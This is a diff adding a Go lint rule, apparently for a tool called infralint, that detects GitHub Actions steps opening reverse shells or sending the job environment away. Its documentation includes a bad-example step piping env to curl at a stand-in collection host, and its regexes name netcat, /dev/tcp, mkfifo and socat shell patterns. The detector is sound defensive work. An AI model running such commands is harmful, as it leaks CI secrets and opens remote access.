@@ -1,0 +1,78 @@
+package actions
+
+import (
+	"regexp"
+	"strings"
+
+	"github.com/infralint/infralint/internal/actions"
+	"github.com/infralint/infralint/internal/lint"
+)
+
+// Exfiltration reports scripts that send out what they should not.
+var Exfiltration = &actions.SourceAnalyzer{
+	Rule: lint.Rule{
+		ID:       "gha-exfiltration",
+		Title:    "script opens a shell to the outside or sends its environment away",
+		Severity: lint.Error,
+		Doc: `
+A shell that is connected to another machine, and an environment that is sent
+somewhere, are what an attacker adds to a workflow, not what a build needs. Where it was
+meant, to look into a run, it is a way in for whoever listens.
+
+Find out who added it, and revoke the secrets that the job had. To look into a run, use
+"Enable debug logging".
+`,
+		Bad: `
+-- .github/workflows/test.yml --
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: env | curl -X POST -d @- https://collect.example.com
+`,
+		Good: `
+-- .github/workflows/test.yml --
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: env | sort
+`,
+		Tags:  []string{"security"},
+		Peers: []string{"checkov:CKV_GHA_3", "checkov:CKV_GHA_4"},
+		Since: "0.1.0",
+	},
+	Run: func(pass *actions.SourcePass) error {
+		for _, in := range pass.Unit.Steps() {
+			script := actions.Run(in.Step)
+			if script == nil {
+				continue
+			}
+			text := blankComments(script.Value)
+			for _, kind := range exfiltrations {
+				for _, m := range kind.pattern.FindAllStringIndex(text, -1) {
+					pass.Reportf(pass.Unit.Part(script, m[0], m[1]), "%s", kind.message)
+				}
+			}
+		}
+		return nil
+	},
+}
+
+var exfiltrations = []struct {
+	pattern *regexp.Regexp
+	message string
+}{
+	{regexp.MustCompile(strings.Join([]string{
+		`/dev/(?:tcp|udp)/[^/\s]+/\d+\s+0?[<>]&?\d?`,
+		`\b(?:nc|ncat|netcat)\b[^\n;|&]*\s(?:-e|-c|--exec|--sh-exec)\b`,
+		`\bmkfifo\b[^\n]*(?:\n[^\n]*)?\|\s*(?:nc|ncat|netcat)\b`,
+		`\bsocat\b[^\n]*\bexec:`,
+	}, "|")), "shell is connected to another machine"},
+	{regexp.MustCompile(strings.Join([]string{
+		`\b(?:env|printenv|export -p|set)\s*(?:\|\s*(?:base64|gzip|sort|xxd)\b[^\n|;]*)*\|\s*(?:curl|wget|nc|ncat|netcat)\b`,
+		`\bcurl\b[^\n]*(?:-d|--data\S*|-F|--form)[ =]["']?\$\(\s*(?:env|printenv|export -p|set)\b`,
+	}, "|")), "environment, with the secrets of the job, is sent away"},
+}
